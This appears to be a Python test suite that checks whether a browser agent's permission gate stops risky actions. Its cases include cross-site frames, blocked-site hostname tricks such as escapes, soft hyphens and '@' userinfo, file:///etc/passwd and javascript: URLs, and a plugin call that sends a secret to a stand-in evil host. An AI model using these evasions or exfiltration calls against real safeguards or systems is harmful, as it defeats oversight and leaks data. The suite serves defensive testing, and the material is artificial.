# ruff: noqa: E501 - pages and calls read best as one line each
"""Attacks by where an act goes: frames, other sites, blocked sites, schemes, modes, leave that was given elsewhere."""

from __future__ import annotations

from gate_suite.attacks_keys import HELLO, LEAVE, START, grave, sends
from gate_suite.case import HASTY, REFUSES, Call, Case, Mode, Open, Rule, Step

_HOME_ONLY = Rule(("Hello",))
"""Who gave leave for one harmless button of one site, and gives none for anything else."""
_PLAIN = "<title>Other</title><button onclick=\"fetch('/%N%/plain/x',{method:'POST'})\">Next</button>"
_NEXT = Call("click", {"ref": '@button "Next"'})
_OTHER = Call("click", {"ref": '@button "Next"'}, optional=True)
FRAMES = (
    Case(
        "frames: leave given in a frame without an address is none for another site's",
        {
            "home": f"<iframe srcdoc='{HELLO.replace(chr(39), chr(34))}' width=400 height=90></iframe>",
            "evil": "<iframe srcdoc=\"<button onclick='fetch(`/%N%/plain/x`,{method:`POST`})'>Next</button>\" width=400 height=90></iframe>",
        },
        (Open("%HOME%/"), Call("click", {"ref": '@button "Hello"'}), Open("%EVIL%/"), _NEXT),
        _HOME_ONLY,
    ),
    Case(
        "frames: leave given to a page is none for another site's frame in it",
        {"home": HELLO + "<iframe src='%EVIL%/in' width=400 height=90></iframe>", "evil/in": _PLAIN},
        (*LEAVE, _NEXT),
        _HOME_ONLY,
    ),
    Case(
        "frames: a sandboxed frame gets no standing leave",
        {
            "home": HELLO
            + "<iframe sandbox=allow-scripts srcdoc=\"<button onclick='fetch(`%HOME%/plain/x`,{method:`POST`,mode:`no-cors`})'>Next</button>\" width=400 height=90></iframe>"
        },
        (*LEAVE, Call("click", {"ref": '@button "Next"'}), Call("click", {"ref": '@button "Next"'})),
        _HOME_ONLY,
    ),
    Case(
        "frames: a grave button in a written frame",
        {
            "home": HELLO
            + f"<iframe id=f width=400 height=90></iframe><script>f.contentDocument.write(`<button>Delete account</button>`);f.contentDocument.querySelector('button').onclick=()=>{sends('delete')}</script>"
        },
        (*LEAVE, Call("click", {"ref": '@button "Delete account"'})),
    ),
    Case(
        "frames: a form that goes to another site from within a frame",
        {
            "home": HELLO
            + "<iframe name=t></iframe><form target=t method=post action='%EVIL%/grave/x'><button>Next</button></form>"
        },
        (*LEAVE, _NEXT),
        _HOME_ONLY,
    ),
    Case(
        "fill: a field in another site's frame",
        {
            "home": HELLO + "<input aria-label=Name><iframe src='%EVIL%/in' width=400 height=90></iframe>",
            "evil/in": "<input aria-label=Inner oninput=\"fetch('/%N%/plain/x',{method:'POST'})\">",
        },
        (
            *LEAVE,
            Call(
                "fill",
                {"fields": [{"ref": '@textbox "Name"', "value": "a"}, {"ref": '@textbox "Inner"', "value": "b"}]},
            ),
        ),
        _HOME_ONLY,
    ),
    Case(
        "fill: a field in another tab",
        {
            "home": HELLO + "<input aria-label=Name>",
            "evil": "<title>Evil</title><input aria-label=Inner oninput=\"fetch('/%N%/plain/x',{method:'POST'})\">",
        },
        (
            *LEAVE,
            Call("tabs", {"action": "open", "url": "%EVIL%/"}),
            Call("readPage", {"full": True}),
            Call(
                "fill",
                {"fields": [{"ref": '@textbox "Name"', "value": "a"}, {"ref": '@textbox "Inner"', "value": "b"}]},
                optional=True,
            ),
        ),
        Rule(("Hello", "Tabs")),
    ),
)
_INNER = "<body style='margin:0'><button style='width:300px;height:80px' onclick=\"fetch('/%N%/plain/x',{method:'POST'})\">Next</button><input aria-label=B autofocus oninput=\"fetch('/%N%/plain/x',{method:'POST'})\">"
MOVING = (
    Case(
        "frames: one goes to another site as it is pressed",
        {
            "home": HELLO + "<iframe src='/%N%/in' width=400 height=90></iframe>",
            "home/in": "<button onmouseover=\"location='%BANK%/in'\">Next</button>",
            "bank/in": _INNER,
        },
        (*LEAVE, _OTHER),
        _HOME_ONLY,
    ),
    *(
        Case(
            f"fill: what the first field changes {what}",
            {"home": f'{HELLO}<input aria-label=A oninput="{script}"><input id=b aria-label=B>', "bank/in": _INNER},
            (
                *LEAVE,
                Call(
                    "fill", {"fields": [{"ref": '@textbox "A"', "value": "a"}, {"ref": '@textbox "B"', "value": "b"}]}
                ),
            ),
            _HOME_ONLY,
        )
        for what, script in (
            ("goes to another site", "location='%BANK%/in'"),
            ("puts another site's frame in a later one's place", "b.outerHTML='<iframe src=%BANK%/in></iframe>'"),
        )
    ),
)
_BANK = Open("%BLOCKED%/")
_SHUT = {
    "blocked": "<title>Ledger MKBLOCKED</title><p>MKBLOCKED 4711</p><button onclick=\"fetch('/%N%/grave/x',{method:'POST'})\">Next</button>",
    "blocked/frame": "<p>MKBLOCKED</p><iframe srcdoc='<button>Next</button> MKBLOCKED'></iframe>",
}


def _blocked(name: str, home: str, *steps: Step, person: Rule = HASTY, via: str = "turn", **pages: str) -> Case:
    return Case(f"blocked: {name}", {**_SHUT, **pages, "home": home}, steps, person, via, unseen=("MKBLOCKED",))


_READ = Call("readPage", {"full": True})
_AFTER = (_READ, Call("tabs", {"action": "list"}), _OTHER)
BLOCKED = (
    _blocked("an address", HELLO, _BANK, *_AFTER),
    _blocked("its name in capitals", HELLO, Open("http://BLOCKED.localhost:%BLOCKED_PORT%/%N%/"), *_AFTER),
    _blocked("its name with a closing dot", HELLO, Open("http://blocked.localhost.:%BLOCKED_PORT%/%N%/"), *_AFTER),
    _blocked("a name below it", HELLO, Open("http://www.blocked.localhost:%BLOCKED_PORT%/%N%/"), *_AFTER),
    _blocked("its name in escapes", HELLO, Open("http://%62locked.localhost:%BLOCKED_PORT%/%N%/"), *_AFTER),
    _blocked(
        "its name with a hyphen that nobody sees",
        HELLO,
        Open("http://blo\u00adcked.localhost:%BLOCKED_PORT%/%N%/"),
        *_AFTER,
    ),
    _blocked("an address without slashes", HELLO, Open("http:blocked.localhost:%BLOCKED_PORT%/%N%/"), *_AFTER),
    _blocked(
        "a name and a password in the address",
        HELLO,
        Open("http://home.localhost@blocked.localhost:%BLOCKED_PORT%/%N%/"),
        *_AFTER,
    ),
    _blocked("a redirect", "-> %BLOCKED%/", *START, *_AFTER),
    _blocked("two redirects", "-> %EVIL%/", *START, *_AFTER, evil="-> %BLOCKED%/"),
    _blocked(
        "a script after a click", "<button onclick=\"location.href='%BLOCKED%/'\">Hello</button>", *LEAVE, *_AFTER
    ),
    _blocked(
        "a refresh",
        "<meta http-equiv=refresh content='0;url=%BLOCKED%/'><p>Wait</p>",
        *START,
        Call("wait", {"text": "MKBLOCKED", "seconds": 1}),
        *_AFTER,
    ),
    _blocked("a link", "<a href='%BLOCKED%/'>Hello</a>", *START, Call("click", {"ref": '@link "Hello"'}), *_AFTER),
    _blocked(
        "a link that opens a tab",
        "<a target=_blank href='%BLOCKED%/'>Hello</a>",
        *START,
        Call("click", {"ref": '@link "Hello"'}),
        *_AFTER,
    ),
    _blocked(
        "a window that a click opens", "<button onclick=\"window.open('%BLOCKED%/')\">Hello</button>", *LEAVE, *_AFTER
    ),
    _blocked("a form that leads there", "<form action='%BLOCKED%/'><button>Hello</button></form>", *LEAVE, *_AFTER),
    _blocked("a new tab", HELLO, Call("tabs", {"action": "open", "url": "%BLOCKED%/"}), *_AFTER),
    _blocked(
        "a frame",
        "<iframe src='%BLOCKED%/' width=400 height=90></iframe>",
        *START,
        _READ,
        Call("readText", {}),
        Call("find", {"text": "MKBLOCKED"}),
        _OTHER,
    ),
    _blocked(
        "a frame's frame",
        "<iframe src='%BLOCKED%/frame' width=400 height=90></iframe>",
        *START,
        _READ,
        Call("find", {"text": "Next"}),
        _OTHER,
    ),
    _blocked("a download", HELLO, *START, Call("download", {"url": "%BLOCKED%/"})),
    _blocked(
        "going back to it",
        "<script>if(!location.hash){history.pushState(0,'','#a')}</script>" + HELLO,
        *LEAVE,
        Call("navigate", {"action": "back"}),
        *_AFTER,
    ),
)
_LOCAL = ("root:x:", "/bin/bash")
SCHEMES = tuple(
    Case(f"scheme: {name}", {"home": html, "home/next": HELLO}, (*START, *steps, _READ), HASTY, unseen=_LOCAL)
    for name, html, steps in (
        *(
            (f"navigate to {address[:24]}", HELLO, (Call("navigate", {"url": address}),))
            for address in (
                "file:///etc/passwd",
                "view-source:file:///etc/passwd",
                "javascript:fetch('%HOME%/grave/x',{method:'POST'})",
                "data:text/html,<script>fetch('%EVIL%/grave/x')</script>",
                "chrome://settings/resetProfileSettings",
                "about:config",
                "FILE:///etc/passwd",
                "  file:///etc/passwd",
                "blob:%HOME%/x",
                "filesystem:%HOME%/x",
            )
        ),
        ("a new tab of a file", HELLO, (Call("tabs", {"action": "open", "url": "file:///etc/passwd"}),)),
        (
            "a new tab of a script",
            HELLO,
            (Call("tabs", {"action": "open", "url": "javascript:fetch('%HOME%/grave/x')"}),),
        ),
        ("a download of a file", HELLO, (Call("download", {"url": "file:///etc/passwd"}),)),
        ("a download of data", HELLO, (Call("download", {"url": "data:text/plain,x"}),)),
        (
            "a link that runs a script",
            f'{HELLO}<a href="javascript:{sends("x")}">Delete account</a>',
            (Call("click", {"ref": '@link "Delete account"'}),),
        ),
        (
            "a link that opens a file in a tab",
            "<a target=_blank href='file:///etc/passwd'>Hello</a>",
            (Call("click", {"ref": '@link "Hello"'}), Call("tabs", {"action": "list"})),
        ),
        (
            "a window with data",
            "<button onclick=\"window.open('data:text/html,root:x:')\">Hello</button>",
            (Call("click", {"ref": '@button "Hello"'}), Call("tabs", {"action": "list"})),
        ),
    )
)


def _mode(name: str, mode: Mode, html: str, *steps: Step, person: Rule = HASTY, **pages: str) -> Case:
    return Case(f"mode {mode}: {name}", {**pages, "home": HELLO + html}, steps, person, mode=mode)


_PLAN = Call(
    "proposePlan",
    {
        "steps": [
            {
                "do": "look",
                "site": "http://home.localhost:%HOME_PORT%",
                "acts": ["click", "press", "fill", "type", "select", "navigate"],
            }
        ]
    },
)
_PLANNED = Rule(("Carry out this plan",))
_ELSEWHERE = "<title>Other</title><button onclick=\"fetch('/%N%/plain/x',{method:'POST'})\">Next</button><input aria-label=Name oninput=\"fetch('/%N%/plain/y',{method:'POST'})\">"
MODES = (
    _mode(
        "a grave button in an approved plan",
        "plan",
        grave("Delete account"),
        _PLAN,
        Open("%HOME%/"),
        Call("click", {"ref": '@button "Delete account"'}),
        person=_PLANNED,
    ),
    _mode(
        "keys that go on in an approved plan",
        "plan",
        "<input aria-label=Search>" + grave("Place order"),
        _PLAN,
        Open("%HOME%/"),
        Call("press", {"ref": '@textbox "Search"', "keys": ["Tab", "Enter"]}),
        person=_PLANNED,
    ),
    _mode(
        "another site in an approved plan",
        "plan",
        "",
        _PLAN,
        Open("%HOME%/"),
        Call("navigate", {"url": "%EVIL%/"}),
        _OTHER,
        Call("type", {"ref": '@textbox "Name"', "text": "x"}, optional=True),
        person=_PLANNED,
        evil=_ELSEWHERE,
    ),
    _mode(
        "a link to another site in an approved plan",
        "plan",
        "<a href='%EVIL%/grave/x'>On</a>",
        _PLAN,
        Open("%HOME%/"),
        Call("click", {"ref": '@link "On"'}),
        person=_PLANNED,
    ),
    _mode(
        "another kind of act than planned",
        "plan",
        "<button onmouseover=\"fetch('/%N%/plain/x',{method:'POST'})\">Next</button>",
        Call(
            "proposePlan",
            {"steps": [{"do": "look", "site": "http://home.localhost:%HOME_PORT%", "acts": ["navigate", "type"]}]},
        ),
        Open("%HOME%/"),
        _NEXT,
        person=_PLANNED,
    ),
    _mode(
        "acts before any plan",
        "plan",
        "<button onclick=\"fetch('/%N%/plain/x',{method:'POST'})\">Next</button>",
        Open("%HOME%/"),
        _OTHER,
    ),
    _mode(
        "a plan that was refused",
        "plan",
        "<button onclick=\"fetch('/%N%/plain/x',{method:'POST'})\">Next</button>",
        _PLAN,
        Open("%HOME%/"),
        _OTHER,
        person=REFUSES,
    ),
    _mode(
        "a plan for a site whose name is longer",
        "plan",
        _ELSEWHERE,
        Call("proposePlan", {"steps": [{"do": "look", "site": "localhost", "acts": ["click", "navigate", "type"]}]}),
        Open("%HOME%/"),
        _OTHER,
        person=_PLANNED,
    ),
    *(
        _mode(
            f"{call.tool} {' '.join(map(str, call.arguments.values()))[:30]}",
            "read_only",
            "<button onclick=\"fetch('/%N%/grave/x',{method:'POST'})\" onmouseover=\"fetch('/%N%/grave/y',{method:'POST'})\">Next</button><input aria-label=Name oninput=\"fetch('/%N%/grave/z',{method:'POST'})\">",
            Open("%HOME%/"),
            call,
        )
        for call in (
            Call("click", {"ref": '@button "Next"'}, optional=True),
            Call("hover", {"ref": '@button "Next"'}, optional=True),
            Call("type", {"ref": '@textbox "Name"', "text": "x"}, optional=True),
            Call("press", {"keys": ["Tab", "Enter"]}),
            Call("tabs", {"action": "open", "url": "%HOME%/grave/t"}),
            Call("download", {"url": "%HOME%/grave/d"}),
            Call("navigate", {"url": "%HOME%/grave/n"}),
            Call("dialog", {"accept": True}),
        )
    ),
    Case(
        "mode auto: a grave button on a listed site",
        {"listed": HELLO + grave("Delete account")},
        (Open("%LISTED%/"), Call("click", {"ref": '@button "Delete account"'})),
        mode="auto",
    ),
    Case(
        "mode auto: a link of a listed site to another one",
        {"listed": HELLO + "<a href='%EVIL%/grave/x'>On</a>"},
        (Open("%LISTED%/"), Call("click", {"ref": '@link "On"'})),
        REFUSES,
        mode="auto",
    ),
    Case(
        "mode auto: a form of a listed site to another one",
        {"listed": HELLO + "<form method=post action='%EVIL%/grave/x'><button>Next</button></form>"},
        (Open("%LISTED%/"), _NEXT),
        REFUSES,
        mode="auto",
    ),
    Case(
        "mode auto: another site's frame on a listed one",
        {"listed": HELLO + "<iframe src='%EVIL%/in' width=400 height=90></iframe>", "evil/in": _PLAIN},
        (Open("%LISTED%/"), _NEXT),
        REFUSES,
        mode="auto",
    ),
    Case("mode auto: a site that is not listed", {"home": HELLO + _PLAIN}, (*START, _NEXT), REFUSES, mode="auto"),
    Case(
        "mode auto: a name like a listed one",
        {"evil": _PLAIN},
        (Open("http://notlisted.localhost:%EVIL_PORT%/%N%/"), _NEXT),
        REFUSES,
        mode="auto",
    ),
)
LEAVES = (
    Case(
        "leave: of one site at another", {"home": HELLO, "evil": _PLAIN}, (*LEAVE, Open("%EVIL%/"), _NEXT), _HOME_ONLY
    ),
    Case(
        "leave: of a host at another name of it",
        {"home": HELLO + _PLAIN},
        (*LEAVE, Open("http://127.0.0.1:%HOME_PORT%/%N%/"), _NEXT),
        _HOME_ONLY,
    ),
    Case(
        "leave: of a host at a name below it",
        {"home": HELLO + _PLAIN},
        (*LEAVE, Open("http://a.home.localhost:%HOME_PORT%/%N%/"), _NEXT),
        _HOME_ONLY,
    ),
    Case(
        "leave: of a host at another port",
        {"home": HELLO, "evil": _PLAIN},
        (*LEAVE, Open("http://home.localhost:%EVIL_PORT%/%N%/"), _NEXT),
        _HOME_ONLY,
    ),
    Case(
        "leave: of clicks for opening another site",
        {"home": HELLO, "evil/grave/x": HELLO},
        (*LEAVE, Call("navigate", {"url": "%EVIL%/grave/x"})),
        _HOME_ONLY,
    ),
    Case(
        "leave: of clicks for a link to another site",
        {"home": HELLO + "<a href='%EVIL%/grave/x'>On</a>"},
        (*LEAVE, Call("click", {"ref": '@link "On"'})),
        _HOME_ONLY,
    ),
    Case(
        "leave: of clicks for a tab of another site",
        {"home": HELLO},
        (*LEAVE, Call("tabs", {"action": "open", "url": "%EVIL%/grave/x"})),
        _HOME_ONLY,
    ),
    Case(
        "leave: of clicks for a download",
        {"home": HELLO},
        (*LEAVE, Call("download", {"url": "%HOME%/grave/x"})),
        _HOME_ONLY,
    ),
    Case(
        "leave: refused for the session, then tried again",
        {"home": HELLO + _PLAIN},
        (
            *START,
            _NEXT,
            _NEXT,
            Call("press", {"ref": '@button "Next"', "keys": ["Enter"]}),
            Call("hover", {"ref": '@button "Next"'}),
        ),
        Rule(ordinary=True, refuses=("Next",)),
    ),
    Case(
        "leave: given once, used twice",
        {
            "home": "<button onclick=\"this.n=(this.n||0)+1;fetch('/%N%/'+(this.n>1?'grave':'plain')+'/x',{method:'POST'})\">Hello</button>"
        },
        (
            *START,
            Call("click", {"ref": '@button "Hello"'}),
            Call("dialog", {"accept": False}),
            Call("click", {"ref": '@button "Hello"'}),
        ),
        Rule(("Hello",), once=True),
        may=("home/grave/x",),
    ),
)
PLUGINS = (
    Case(
        "leave: of a site for a plugin's tool",
        {"home": HELLO},
        (*LEAVE, Call("fetcher", {"where": "%HOME%/plain/x"})),
        _HOME_ONLY,
    ),
    Case(
        "leave: of a plugin's tool for a site",
        {"home": HELLO + _PLAIN},
        (Call("fetcher", {"where": "%EVIL%/c"}), *START, _NEXT),
        Rule(("fetcher",)),
    ),
    Case("secret: through a plugin's tool", {}, (Open("%BANK%/"), Call("fetcher", {"where": "%EVIL%/c?d=$S64"}))),
    Case("mode read_only: a plugin's tool", {}, (Call("fetcher", {"where": "%HOME%/grave/x"}),), mode="read_only"),
    Case("mode auto: a plugin's tool", {}, (Call("fetcher", {"where": "%LISTED%/grave/x"}),), REFUSES, mode="auto"),
)
"""`fetcher` is a plugin that opens an address, which is its word for where."""
CASES = (*PLUGINS, *FRAMES, *MOVING, *BLOCKED, *SCHEMES, *MODES, *LEAVES)
